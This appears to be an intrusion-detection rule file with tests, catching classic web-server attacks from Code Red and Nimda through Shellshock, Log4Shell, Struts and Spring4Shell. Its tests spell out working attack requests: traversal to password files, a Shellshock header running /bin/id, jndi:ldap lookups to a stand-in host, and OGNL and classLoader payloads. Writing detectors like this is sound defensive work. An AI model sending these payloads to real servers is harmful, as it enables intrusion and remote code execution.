//! Attacks on web servers that show in the first packet of a request. Each fact is in the public description that is named.
//!
//! A request is looked for where it begins a segment, in clear text, on `web_ports`. What is encrypted, what comes second in
//! a segment, and what its sender splits over segments is not found. Browsers and libraries tidy a path before they send it
//! (RFC 3986 5.2.4) and encode what a form holds, so `../` and `/etc/passwd` in clear are not what a person typed.
//!
//! On nDPI's test captures (real traffic of several hundred protocols) nothing honest matches: 103 requests of the web scanner
//! Nikto, which tries just these holes and names itself, and one of curl for `/.env`.

/// Where clear-text web servers listen.
param web_ports = { 80, 81, 3128, 8000..8010, 8080, 8081, 8888 }

/// The path and its query: from behind the method's shortest name to where a long line ends.
const uri_first = 4
const uri_last  = 511

/// Where the header of a request may stand, and mostly the whole of it.
const header_last = 4095

/// The beginning of a request (RFC 9112 3) whose path is asked for, with or without a body.
predicate request =
  tcp.dst_port in web_ports
  and (payload contains "GET /" at 0 or payload contains "POST /" at 0 or payload contains "HEAD /" at 0
    or payload contains "PUT /" at 0 or payload contains "OPTIONS /" at 0)

/// A name anywhere in the path or the query, however its letters are written.
predicate asks_for(name) = request and payload contains name nocase in uri_first..uri_last

/// A name at the very beginning of the path.
predicate asks_first_for(get, head) =
  tcp.dst_port in web_ports and (payload contains get at 0 or payload contains head at 0)

// Worms ---------------------------------------------------------------------------------------------------------------

/// Windows' command interpreter, reached through a hole in IIS or copied to where scripts are: Nimda and others before it
/// (CERT CA-2001-26, CA-2001-12).
signature iis_cmd_exe {
  id       1000101
  title    "IIS cmd.exe probe"
  severity high
  class    exploit
  ref      cert "CA-2001-26"
  ref      cve "CVE-2001-0333"
  ref      mitre "T1190"
  when     asks_for("cmd.exe")
  then     log, drop
}

/// The copy of the command interpreter that Code Red II leaves behind; Nimda looks for it (CERT IN-2001-09, CA-2001-26).
signature iis_root_exe {
  id       1000102
  title    "IIS root.exe: Code Red II's back door"
  severity high
  class    backdoor
  ref      cert "IN-2001-09"
  ref      cert "CA-2001-26"
  when     request
       and (payload contains "/scripts/root.exe" nocase in uri_first..uri_last
         or payload contains "/msadc/root.exe" nocase in uri_first..uri_last)
  then     log, drop
}

/// Code Red fills the buffer of IIS's indexing service with N (CERT CA-2001-19).
signature code_red {
  id       1000103
  title    "Code Red"
  severity critical
  class    worm
  ref      cert "CA-2001-19"
  ref      cve "CVE-2001-0500"
  when     tcp.dst_port in web_ports
       and payload contains "GET /default.ida?NNNNNNNNNNNNNNNN" at 0
  then     log, drop
}

/// Code Red II fills it with X (CERT IN-2001-09).
signature code_red_ii {
  id       1000104
  title    "Code Red II"
  severity critical
  class    worm
  ref      cert "IN-2001-09"
  ref      cve "CVE-2001-0500"
  when     tcp.dst_port in web_ports
       and payload contains "GET /default.ida?XXXXXXXXXXXXXXXX" at 0
  then     log, drop
}

/// A server that Nimda has infected adds a line to its pages that opens the worm (CERT CA-2001-26).
signature nimda_page {
  id       1000105
  title    "Nimda: page of an infected server"
  severity high
  class    worm
  ref      cert "CA-2001-26"
  when     tcp.src_port in web_ports
       and payload contains "window.open(\"readme.eml\"" nocase
  then     log, drop
}

// Paths ---------------------------------------------------------------------------------------------------------------

/// `/` and `\` as UTF-8 in more bytes than they need, which RFC 3629 3 forbids: IIS decoded them after it had looked for `../`.
signature iis_unicode_traversal {
  id       1000106
  title    "IIS Unicode directory traversal"
  severity high
  class    exploit
  ref      cve "CVE-2000-0884"
  ref      mitre "T1190"
  when     request
       and (payload contains "..%c0%af" nocase in uri_first..uri_last
         or payload contains "..%c1%9c" nocase in uri_first..uri_last
         or payload contains "..%c1%1c" nocase in uri_first..uri_last
         or payload contains "..%e0%80%af" nocase in uri_first..uri_last)
  then     log, drop
}

/// `%255c` is `%5c` after one decoding and `\` after two: IIS looked for `..\` after the first (CERT CA-2001-12).
signature iis_double_decode {
  id       1000107
  title    "IIS double decoding directory traversal"
  severity high
  class    exploit
  ref      cve "CVE-2001-0333"
  ref      cert "CA-2001-12"
  ref      mitre "T1190"
  when     request
       and (payload contains "..%255c" nocase in uri_first..uri_last
         or payload contains "..%252f" nocase in uri_first..uri_last
         or payload contains "..%%35c" nocase in uri_first..uri_last
         or payload contains "..%%35%63" nocase in uri_first..uri_last
         or payload contains "..%25%35%63" nocase in uri_first..uri_last)
  then     log, drop
}

/// Three steps up, as no client sends them that tidies its paths. One or two are let pass: relative links in old software.
signature web_traversal {
  id       1000108
  title    "Directory traversal"
  severity medium
  class    exploit
  ref      cwe "CWE-22"
  ref      mitre "T1190"
  when     request
       and (payload contains "../../../" in uri_first..uri_last
         or payload contains "..\\..\\..\\" in uri_first..uri_last)
  then     log, drop
}

/// Steps up with dots or slashes encoded, so that a comparison with `../` fails: two in a row, or one behind a dot that needs
/// no encoding, as against Apache 2.4.49 (`/cgi-bin/.%2e/`).
signature web_encoded_traversal {
  id       1000109
  title    "Directory traversal, encoded"
  severity high
  class    exploit
  ref      cwe "CWE-22"
  ref      cve "CVE-2021-41773"
  ref      mitre "T1190"
  when     request
       and (payload contains "/.%2e/" nocase in uri_first..uri_last
         or payload contains "/%2e%2e/" nocase in uri_first..uri_last
         or payload contains "%2e%2e%2f%2e%2e%2f" nocase in uri_first..uri_last
         or payload contains "..%2f..%2f" nocase in uri_first..uri_last
         or payload contains "..%5c..%5c" nocase in uri_first..uri_last)
  then     log, drop
}

/// The list of users of a Unix system, or their passwords, asked for by path.
signature web_passwd {
  id       1000110
  title    "Request for /etc/passwd"
  severity high
  class    exploit
  ref      cwe "CWE-22"
  ref      mitre "T1190"
  when     request
       and (payload contains "/etc/passwd" nocase in uri_first..uri_last
         or payload contains "/etc/shadow" nocase in uri_first..uri_last)
  then     log, drop
}

/// The white pages example that came with NCSA and Apache: a line feed in its query began another command (CERT CA-1996-06).
signature web_phf {
  id       1000111
  title    "phf: command through a query"
  severity medium
  class    exploit
  ref      cve "CVE-1999-0067"
  ref      cert "CA-1996-06"
  when     asks_for("/phf?") and payload contains "%0a" nocase in uri_first..uri_last
  then     log, drop
}

/// Repositories and settings that were put on a server by mistake: nobody links to them.
signature web_secrets {
  id       1000112
  title    "Request for a repository or settings"
  severity medium
  class    recon
  ref      cwe "CWE-538"
  ref      mitre "T1595.003"
  when     asks_first_for("GET /.git/config ", "HEAD /.git/config ")
        or asks_first_for("GET /.env ", "HEAD /.env ")
  then     log, drop
}

/// A test file of PHPUnit that runs what it is sent, where developers' libraries lie below a web root.
signature phpunit_eval {
  id       1000113
  title    "PHPUnit: code in a request"
  severity high
  class    exploit
  ref      cve "CVE-2017-9841"
  ref      mitre "T1190"
  when     asks_for("/phpunit/") and payload contains "/eval-stdin.php" nocase in uri_first..uri_last
  then     log, drop
}

// Headers -------------------------------------------------------------------------------------------------------------

/// Bash took a variable that begins like a function for one, and ran what stands behind it; web servers hand headers to
/// scripts as variables.
signature shellshock {
  id       1000114
  title    "Shellshock"
  severity critical
  class    exploit
  ref      cve "CVE-2014-6271"
  ref      mitre "T1190"
  when     request
       and (payload contains ": () {" in uri_first..header_last or payload contains ":() {" in uri_first..header_last)
  then     log, drop
}

/// Log4j looked up what stands between `${` and `}` in what it logs, and `jndi` fetched code from anywhere. The many ways to
/// hide the word (`${lower:j}ndi`) are not found.
signature log4shell {
  id       1000115
  title    "Log4Shell"
  severity critical
  class    exploit
  ref      cve "CVE-2021-44228"
  ref      mitre "T1190"
  when     request
       and (payload contains "${jndi:" nocase in uri_first..header_last
         or payload contains "$%7bjndi:" nocase in uri_first..uri_last
         or payload contains "%24%7bjndi" nocase in uri_first..uri_last)
  then     log, drop
}

/// Struts evaluated the type of a request's body, when it was none, to say that it was none.
signature struts_content_type {
  id       1000116
  title    "Struts: expression as content type"
  severity critical
  class    exploit
  ref      cve "CVE-2017-5638"
  ref      mitre "T1190"
  when     request
       and (payload contains "\r\nContent-Type: %{" nocase in uri_first..header_last
         or payload contains "\r\nContent-Type:%{" nocase in uri_first..header_last
         or payload contains "\r\nContent-Type: ${" nocase in uri_first..header_last)
  then     log, drop
}

/// Spring bound a request's parameters to properties of properties, and so to the class loader.
signature spring4shell {
  id       1000117
  title    "Spring4Shell"
  severity critical
  class    exploit
  ref      cve "CVE-2022-22965"
  ref      mitre "T1190"
  when     request
       and (payload contains "class.module.classLoader." or payload contains "class%2emodule%2eclassLoader%2e" nocase)
  then     log, drop
}

/// A range that ends at 2^64 - 1 overflowed in Windows' HTTP.sys (Microsoft MS15-034).
signature http_sys_range {
  id       1000118
  title    "HTTP.sys: range to the end of numbers"
  severity high
  class    dos
  ref      cve "CVE-2015-1635"
  when     request
       and payload contains "\r\nRange:" nocase in uri_first..header_last
       and payload contains "-18446744073709551615" in uri_first..header_last
  then     log, drop
}

// Tests ---------------------------------------------------------------------------------------------------------------

/// Twelve pages, two HEAD, two POST, and one request a version of IP for cmd.exe behind `..%255c..`.
test "web traffic with two attacks in it" {
  pcap "captures/web.pcap"
  expect iis_cmd_exe * 2, iis_double_decode * 2, verdict drop * 2
}
test "honest traffic" {
  pcap "captures/mixed-benign.pcap"
  pcap "captures/nmap-connect.pcap"
  expect none
}

test "cmd.exe" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/CMD.EXE?/c+dir HTTP/1.0\r\n\r\n" }
  packet { ipv6 tcp { dst_port 8005 } payload "HEAD /c/winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n" }
  expect iis_cmd_exe * 2, verdict drop
}
test "every method that asks for a path" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "POST /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "HEAD /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "PUT /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "OPTIONS /cmd.exe HTTP/1.0\r\n" }
  expect iis_cmd_exe * 5, verdict drop
}
test "not a request: what an upload goes on with, and other ports" {
  packet { ipv4 tcp { dst_port 80 } payload "how to remove /scripts/cmd.exe, and GET /cmd.exe in a log" }
  packet { ipv4 tcp { dst_port 8443 } payload "GET /default.ida?NNNNNNNNNNNNNNNNNNNNNNNN HTTP/1.0\r\n" }
  packet { ipv4 tcp { dst_port 8443 } payload "GET /default.ida?XXXXXXXXXXXXXXXXXXXXXXXX HTTP/1.0\r\n" }
  packet { ipv4 tcp { src_port 25  dst_port 50000 } payload "<script>window.open(\"readme.eml\", null)</script>" }
  expect none
}
test "not cmd.exe: another page, another port, an answer, a name beyond the window" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /search?q=cmd+exe HTTP/1.1\r\n\r\n" }
  packet { ipv4 tcp { dst_port 25 } payload "GET /scripts/cmd.exe HTTP/1.0\r\n\r\n" }
  packet { ipv4 tcp { src_port 80  dst_port 50000 } payload "HTTP/1.1 200 OK\r\n\r\ncmd.exe" }
  packet { ipv4 udp { dst_port 80 } payload "GET /scripts/cmd.exe HTTP/1.0\r\n\r\n" }
  expect none
}

test "root.exe" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/root.exe?/c+dir HTTP/1.0\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /MSADC/root.exe?/c+dir HTTP/1.0\r\n" }
  expect iis_root_exe * 2, verdict drop
}
test "not root.exe: a page about it" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/root.exe.html HTTP/1.0\r\n" }
  expect none
}
test "Code Red" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /default.ida?NNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNN%u9090%u6858 HTTP/1.0\r\n" }
  expect code_red, verdict drop
}
test "Code Red II" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /default.ida?XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX%u9090%u6858 HTTP/1.0\r\n" }
  expect code_red_ii, verdict drop
}
test "not Code Red: a query of the indexing service" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /default.ida?query=NNNN HTTP/1.0\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /default.ida?XX HTTP/1.0\r\n" }
  expect none
}
test "a page of a server with Nimda" {
  packet { ipv4 tcp { src_port 80  dst_port 50000 } payload "<script language=\"JavaScript\">window.open(\"readme.eml\", null, \"resizable=no\")</script>" }
  expect nimda_page, verdict drop
}
test "not Nimda's page: another window" {
  packet { ipv4 tcp { src_port 80  dst_port 50000 } payload "<script>window.open(\"readme.html\")</script>" }
  expect none
}

test "overlong UTF-8" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/..%c0%af../winnt/ HTTP/1.0\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/..%C1%9C../winnt/ HTTP/1.0\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/..%c1%1c../winnt/ HTTP/1.0\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/..%e0%80%af../winnt/ HTTP/1.0\r\n" }
  expect iis_unicode_traversal * 4, verdict drop
}
test "not overlong: UTF-8 as it should be" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /caf%c3%a9/..%c3%a9/ HTTP/1.1\r\n" }
  expect none
}
test "decoded twice" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/..%255C../winnt/ HTTP/1.0\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/..%252f../winnt/ HTTP/1.0\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/..%%35c../winnt/ HTTP/1.0\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/..%%35%63../winnt/ HTTP/1.0\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /scripts/..%25%35%63../winnt/ HTTP/1.0\r\n" }
  expect iis_double_decode * 5, verdict drop
}
test "not decoded twice: a percent sign" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /sale?discount=25%25&until=5 HTTP/1.1\r\n" }
  expect none
}
test "steps up" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /show?file=../../../boot.ini HTTP/1.0\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /show?file=..\\..\\..\\boot.ini HTTP/1.0\r\n" }
  expect web_traversal * 2, verdict drop
}
test "not steps up: a relative link, and a body" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /a/../b/ HTTP/1.1\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/../../index.html HTTP/1.1\r\n" }
  expect none
}
test "encoded steps up" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /x/%2E%2E/%2E%2E/ HTTP/1.1\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /show?file=%2e%2e%2f%2e%2e%2fboot.ini HTTP/1.1\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /show?file=..%2f..%2fboot.ini HTTP/1.1\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /show?file=..%5C..%5Cboot.ini HTTP/1.1\r\n" }
  expect web_encoded_traversal * 5, verdict drop
}
test "not encoded steps up: dots and slashes in a form" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /search?q=wait%2e%2e%2e&next=%2fhome HTTP/1.1\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /login?back=..%2fhome HTTP/1.1\r\n" }
  expect none
}
test "the list of users" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /show?file=/etc/passwd HTTP/1.0\r\n" }
  packet { ipv6 tcp { dst_port 8080 } payload "POST /cgi-bin/cat/etc/shadow HTTP/1.0\r\n" }
  expect web_passwd * 2, verdict drop
}
test "not the list of users: a page about it, and a form" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/passwd.html HTTP/1.1\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /search?q=%2Fetc%2Fpasswd HTTP/1.1\r\n" }
  expect none
}
test "phf" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /cgi-bin/phf?Qalias=x%0A/bin/id HTTP/1.0\r\n" }
  expect web_phf, verdict drop
}
test "not phf: its honest use, and a line feed in another form" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /cgi-bin/phf?Qalias=smith HTTP/1.0\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /note?text=one%0d%0atwo HTTP/1.1\r\n" }
  expect none
}
test "a repository and settings" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /.git/config HTTP/1.1\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "HEAD /.env HTTP/1.1\r\n" }
  expect web_secrets * 2, verdict drop
}
test "not secrets: what git asks for, a page about environments" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /project.git/info/refs?service=git-upload-pack HTTP/1.1\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/.env HTTP/1.1\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /.environment HTTP/1.1\r\n" }
  packet { ipv4 tcp { dst_port 25 } payload "GET /.env HTTP/1.1\r\n" }
  expect none
}
test "PHPUnit" {
  packet { ipv4 tcp { dst_port 80 } payload "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n\r\n<?php phpinfo();" }
  expect phpunit_eval, verdict drop
}
test "not PHPUnit's hole: its manual" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /phpunit/manual.php HTTP/1.1\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /tools/eval-stdin.php HTTP/1.1\r\n" }
  expect none
}

test "Shellshock" {
  packet { ipv4 tcp { dst_port 80 } payload "GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :; }; /bin/id\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /cgi-bin/status HTTP/1.1\r\nCookie:() { :; }; /bin/id\r\n" }
  expect shellshock * 2, verdict drop
}
test "not Shellshock: a script, uploaded and fetched" {
  packet { ipv4 tcp { dst_port 80 } payload "POST /scripts HTTP/1.1\r\nContent-Type: text/javascript\r\n\r\nwindow.onload = function () { run(); }" }
  packet { ipv4 tcp { src_port 80  dst_port 50000 } payload "HTTP/1.1 200 OK\r\n\r\nhandlers = { open: () { } }" }
  expect none
}
test "Log4Shell" {
  packet { ipv4 tcp { dst_port 8080 } payload "GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://192.0.2.9/a}\r\n" }
  packet { ipv4 tcp { dst_port 8080 } payload "GET /?x=$%7Bjndi:ldap://192.0.2.9/a%7D HTTP/1.1\r\n" }
  packet { ipv4 tcp { dst_port 8080 } payload "GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%2Fa%7D HTTP/1.1\r\n" }
  expect log4shell * 3, verdict drop
}
test "not Log4Shell: another expression, and the word alone" {
  packet { ipv4 tcp { dst_port 8080 } payload "GET /docs/jndi:ldap?theme=${dark} HTTP/1.1\r\n" }
  expect none
}
test "Struts" {
  packet { ipv4 tcp { dst_port 8080 } payload "GET /start.action HTTP/1.1\r\nContent-Type: %{(#x='multipart/form-data').(#y)}\r\n" }
  packet { ipv4 tcp { dst_port 8080 } payload "GET /start.action HTTP/1.1\r\nContent-Type:%{(#x='multipart/form-data').(#y)}\r\n" }
  packet { ipv4 tcp { dst_port 8080 } payload "GET /start.action HTTP/1.1\r\ncontent-type: ${(#x='multipart/form-data').(#y)}\r\n" }
  expect struts_content_type * 3, verdict drop
}
test "not Struts' hole: a form" {
  packet { ipv4 tcp { dst_port 8080 } payload "POST /start.action HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=%{x}\r\n" }
  expect none
}
test "Spring4Shell" {
  packet { ipv4 tcp { dst_port 8080 } payload "POST /greet HTTP/1.1\r\n\r\nclass.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp" }
  packet { ipv4 tcp { dst_port 8080 } payload "GET /greet?class%2Emodule%2EclassLoader%2Eresources=x HTTP/1.1\r\n" }
  expect spring4shell * 2, verdict drop
}
test "not Spring4Shell: a form about classes" {
  packet { ipv4 tcp { dst_port 8080 } payload "GET /greet?class.module=5&classLoader=system HTTP/1.1\r\n" }
  expect none
}
test "a range to the end of numbers" {
  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nRange: bytes=0-18446744073709551615\r\n" }
  expect http_sys_range, verdict drop
}
test "not to the end of numbers: an honest range, and the number elsewhere" {
  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nRange: bytes=0-1023\r\n" }
  packet { ipv4 tcp { dst_port 80 } payload "GET /primes?to=2-18446744073709551615 HTTP/1.1\r\n" }
  expect none
}
